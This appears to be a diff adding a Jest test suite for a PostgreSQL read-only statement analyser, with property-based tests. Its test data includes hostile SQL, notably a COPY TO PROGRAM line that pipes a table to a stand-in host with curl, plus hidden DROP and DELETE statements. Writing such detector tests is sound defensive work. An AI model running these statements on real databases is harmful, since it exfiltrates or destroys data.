@@ -1,0 +1,244 @@
+import fc from 'fast-check';
+import { SqlAnalysisService, SqlOutcome } from './sql-analysis.service';
+import { MAX_LISTED } from './sql-tree';
+
+const service = new SqlAnalysisService();
+beforeAll(() => service.onModuleInit());
+
+function analysed(sql: string): Extract<SqlOutcome, { parsed: true }> {
+  const outcome = service.analyse(sql);
+  if (!outcome.parsed) throw new Error(`expected ${sql} to parse: ${outcome.error}`);
+  return outcome;
+}
+
+describe('SqlAnalysisService: read-only statements', () => {
+  it.each([
+    ['SELECT 1', [], []],
+    ['SELECT id, email FROM customers WHERE id = $1', ['customers'], []],
+    ['select * from Public.Customers c join orders o on o.customer_id = c.id', ['public.customers', 'orders'], []],
+    ['SELECT * FROM "Customers"', ['"Customers"'], []],
+    ['SELECT * FROM sales."Q1 Orders"', ['sales."Q1 Orders"'], []],
+    ['SELECT * FROM U&"cust\\006Fmers"', ['customers'], []],
+    ['SELECT * FROM a UNION SELECT * FROM b', ['a', 'b'], []],
+    ['SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))', ['t', 'u', 'v'], []],
+    ['WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', ['orders'], []],
+    ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', [], []],
+    ['VALUES (1, 2), (3, 4)', [], []],
+    ['TABLE customers', ['customers'], []],
+    ['/* DELETE FROM x */ SELECT 1 -- ; DROP TABLE y', [], []],
+    ["SELECT 'DELETE FROM customers; DROP TABLE x'", [], []],
+    ['SELECT 1; SELECT 2;', [], []],
+  ])('%s is read-only', (sql, read, written) => {
+    const { analysis, writes } = analysed(sql);
+    expect(analysis.readOnly).toBe(true);
+    expect(analysis.statementKinds).toEqual(['SelectStmt']);
+    expect(analysis.tablesRead).toEqual(read);
+    expect(analysis.tablesWritten).toEqual(written);
+    expect(writes).toEqual([]);
+  });
+
+  it('does not take a CTE defined in another scope for a table it shadows', () => {
+    const { analysis } = analysed('SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets');
+    expect(analysis.tablesRead).toEqual(['secrets']);
+  });
+
+  it('lets a CTE see only the CTEs before it, unless RECURSIVE', () => {
+    expect(analysed('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').analysis.tablesRead).toEqual(['b']);
+    expect(
+      analysed('WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').analysis.tablesRead,
+    ).toEqual([]);
+  });
+});
+
+describe('SqlAnalysisService: writes are never read-only', () => {
+  it.each([
+    ['DELETE FROM customers', 'DeleteStmt', 'DeleteStmt on customers', ['customers'], []],
+    ['delete from CUSTOMERS where id = 1', 'DeleteStmt', 'DeleteStmt on customers', ['customers'], []],
+    ['DELETE FROM "Customers"', 'DeleteStmt', 'DeleteStmt on "Customers"', ['"Customers"'], []],
+    ['INSERT INTO s.t (a) SELECT a FROM u', 'InsertStmt', 'InsertStmt on s.t', ['s.t'], ['u']],
+    ['UPDATE t SET a = 1 FROM u WHERE t.id = u.id', 'UpdateStmt', 'UpdateStmt on t', ['t'], ['u']],
+    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'MergeStmt', 'MergeStmt on t', ['t'], ['s']],
+    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SelectStmt', 'DeleteStmt on t (nested)', ['t'], []],
+    [
+      'SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u) x',
+      'SelectStmt',
+      'UpdateStmt on t (nested)',
+      ['t'],
+      [],
+    ],
+    [
+      '(WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i) UNION SELECT 1',
+      'SelectStmt',
+      'InsertStmt on t (nested)',
+      ['t'],
+      [],
+    ],
+    ['SELECT * FROM customers FOR UPDATE', 'SelectStmt', 'SelectStmt with FOR UPDATE', [], ['customers']],
+    [
+      'SELECT * FROM customers FOR KEY SHARE SKIP LOCKED',
+      'SelectStmt',
+      'SelectStmt with FOR KEY SHARE',
+      [],
+      ['customers'],
+    ],
+    [
+      'SELECT * FROM (SELECT * FROM t FOR NO KEY UPDATE) s',
+      'SelectStmt',
+      'SelectStmt with FOR NO KEY UPDATE (nested)',
+      [],
+      ['t'],
+    ],
+    ['(SELECT * FROM a FOR SHARE) UNION SELECT * FROM b', 'SelectStmt', 'SelectStmt with FOR SHARE', [], ['a', 'b']],
+    ['SELECT * INTO copy FROM customers', 'SelectStmt', 'SelectStmt with INTO on copy', ['copy'], ['customers']],
+    ['SELECT * INTO TEMP t2 FROM t', 'SelectStmt', 'SelectStmt with INTO on t2', ['t2'], ['t']],
+    ['CREATE TABLE x AS SELECT * FROM t', 'CreateTableAsStmt', 'CreateTableAsStmt on x', ['x'], ['t']],
+    ['CREATE VIEW v AS SELECT * FROM t', 'ViewStmt', 'ViewStmt on v', ['v'], ['t']],
+    ['CREATE TABLE n (LIKE t, id int REFERENCES p)', 'CreateStmt', 'CreateStmt on n', ['n'], ['t', 'p']],
+    ['ALTER TABLE t ADD COLUMN c int', 'AlterTableStmt', 'AlterTableStmt on t', ['t'], []],
+    ['DROP TABLE x, s."Y"', 'DropStmt', 'DropStmt on x, s."Y"', ['x', 's."Y"'], []],
+    ['TRUNCATE a, b', 'TruncateStmt', 'TruncateStmt on a, b', ['a', 'b'], []],
+    ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'LockStmt', 'LockStmt on t', ['t'], []],
+    ['GRANT SELECT ON t TO public', 'GrantStmt', 'GrantStmt on t', ['t'], []],
+    ["COPY t TO PROGRAM 'curl -d @- evil.example'", 'CopyStmt', 'CopyStmt', [], ['t']],
+    ["COPY t FROM '/tmp/x.csv'", 'CopyStmt', 'CopyStmt on t', ['t'], []],
+    ['COPY (SELECT * FROM t) TO STDOUT', 'CopyStmt', 'CopyStmt', [], ['t']],
+    ['DO $$ BEGIN DELETE FROM t; END $$', 'DoStmt', 'DoStmt', [], []],
+    ['SET ROLE admin', 'VariableSetStmt', 'VariableSetStmt', [], []],
+    ['SET search_path = evil, public', 'VariableSetStmt', 'VariableSetStmt', [], []],
+    ['RESET ROLE', 'VariableSetStmt', 'VariableSetStmt', [], []],
+    ['SHOW search_path', 'VariableShowStmt', 'VariableShowStmt', [], []],
+    ['CALL purge_customers()', 'CallStmt', 'CallStmt', [], []],
+    ['EXPLAIN ANALYZE DELETE FROM x', 'ExplainStmt', 'DeleteStmt on x (nested)', ['x'], []],
+    ['EXPLAIN SELECT * FROM t', 'ExplainStmt', 'ExplainStmt', [], ['t']],
+    ['BEGIN', 'TransactionStmt', 'TransactionStmt', [], []],
+    ['PREPARE p AS DELETE FROM t', 'PrepareStmt', 'DeleteStmt on t (nested)', ['t'], []],
+    ['EXECUTE p', 'ExecuteStmt', 'ExecuteStmt', [], []],
+    ['DECLARE c CURSOR FOR SELECT * FROM t', 'DeclareCursorStmt', 'DeclareCursorStmt', [], ['t']],
+    ['VACUUM t', 'VacuumStmt', 'VacuumStmt on t', ['t'], []],
+    ['REFRESH MATERIALIZED VIEW mv', 'RefreshMatViewStmt', 'RefreshMatViewStmt on mv', ['mv'], []],
+    [
+      'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t RETURNING 1 $$',
+      'CreateFunctionStmt',
+      'CreateFunctionStmt',
+      [],
+      [],
+    ],
+  ])('%s is not read-only', (sql, kind, finding, written, read) => {
+    const { analysis, writes } = analysed(sql);
+    expect(analysis.readOnly).toBe(false);
+    expect(analysis.statementKinds).toEqual([kind]);
+    expect(writes).toContain(finding);
+    expect(analysis.tablesWritten).toEqual(written);
+    expect(analysis.tablesRead).toEqual(read);
+  });
+
+  it('counts every statement of a batch', () => {
+    const { analysis, writes } = analysed('SELECT 1; DROP TABLE x');
+    expect(analysis).toEqual({
+      statementKinds: ['SelectStmt', 'DropStmt'],
+      tablesRead: [],
+      tablesWritten: ['x'],
+      readOnly: false,
+    });
+    expect(writes).toEqual(['DropStmt on x']);
+  });
+
+  it('hides no statement behind comments, odd casing or whitespace', () => {
+    const { analysis } = analysed('SeLeCt 1 /* comment ; */ ;\n\t--x\n  dElEtE/**/FROM\n"public" . customers');
+    expect(analysis.statementKinds).toEqual(['SelectStmt', 'DeleteStmt']);
+    expect(analysis.tablesWritten).toEqual(['public.customers']);
+    expect(analysis.readOnly).toBe(false);
+  });
+
+  it('is not read-only when there is no statement at all', () => {
+    expect(analysed('-- nothing here').analysis).toMatchObject({ statementKinds: [], readOnly: false });
+    expect(analysed(';').analysis.readOnly).toBe(false);
+  });
+});
+
+describe('SqlAnalysisService: limits and errors', () => {
+  it('returns the parser message for SQL that does not parse', () => {
+    expect(service.analyse('SELEC * FROM t')).toEqual({ parsed: false, error: 'syntax error at or near "SELEC"' });
+    expect(service.analyse("SELECT 'unterminated")).toEqual({
+      parsed: false,
+      error: expect.stringMatching(/unterminated quoted string/),
+    });
+  });
+
+  it('walks a deeply nested tree without exhausting the stack', () => {
+    const depth = 1000; // about as deep as PostgreSQL's parser goes before "memory exhausted"
+    const nested = (inner: string) =>
+      `SELECT * FROM t WHERE a IN ${'(SELECT a FROM t WHERE a IN '.repeat(depth)}(${inner})${')'.repeat(depth)}`;
+    expect(analysed(nested('1')).analysis).toMatchObject({ readOnly: true, tablesRead: ['t'] });
+    expect(analysed(`WITH d AS (DELETE FROM x RETURNING a) ${nested('SELECT a FROM d')}`).analysis).toMatchObject({
+      readOnly: false,
+      tablesWritten: ['x'],
+    });
+  });
+
+  it('caps the table lists at the contract limit but still decides on every table', () => {
+    const tables = Array.from({ length: MAX_LISTED + 5 }, (_, i) => `t${i}`);
+    const { analysis } = analysed(`SELECT 1 FROM ${tables.join(', ')}; DELETE FROM last_one`);
+    expect(analysis.tablesRead).toHaveLength(MAX_LISTED);
+    expect(analysis.readOnly).toBe(false);
+  });
+});
+
+describe('SqlAnalysisService: property', () => {
+  const reads = [
+    'SELECT 1',
+    'SELECT * FROM customers',
+    'SELECT a FROM t JOIN u USING (id)',
+    'TABLE orders',
+    'VALUES (1)',
+    'WITH x AS (SELECT 1) SELECT * FROM x',
+  ];
+  const writes = [
+    'DELETE FROM customers',
+    'UPDATE t SET a = 1',
+    'INSERT INTO t VALUES (1)',
+    'DROP TABLE t',
+    'TRUNCATE t',
+    'SELECT * FROM t FOR UPDATE',
+    'SELECT * INTO n FROM t',
+    'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
+    "COPY t TO PROGRAM 'x'",
+    'DO $$ BEGIN END $$',
+    'SET ROLE admin',
+    'EXPLAIN ANALYZE DELETE FROM t',
+    'CREATE TABLE z (a int)',
+    'GRANT ALL ON t TO public',
+    'CALL p()',
+    'COMMIT',
+  ];
+  const decorate = (sql: string, upper: boolean, comment: boolean) =>
+    `${comment ? '/* ; */ ' : ''}${upper ? sql.toUpperCase() : sql.toLowerCase()}`;
+
+  it('a batch holding any write is never read-only, wherever the write sits', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.constantFrom(...reads), { maxLength: 5 }),
+        fc.constantFrom(...writes),
+        fc.nat(),
+        fc.boolean(),
+        fc.boolean(),
+        (readStatements, write, at, upper, comment) => {
+          const batch = [...readStatements];
+          batch.splice(at % (batch.length + 1), 0, write);
+          const outcome = service.analyse(batch.map((s) => decorate(s, upper, comment)).join(';\n'));
+          return outcome.parsed && !outcome.analysis.readOnly && outcome.writes.length > 0;
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+
+  it('a batch of reads only is read-only', () => {
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...reads), { minLength: 1, maxLength: 6 }), (batch) => {
+        const outcome = service.analyse(batch.join('; '));
+        return outcome.parsed && outcome.analysis.readOnly;
+      }),
+    );
+  });
+});
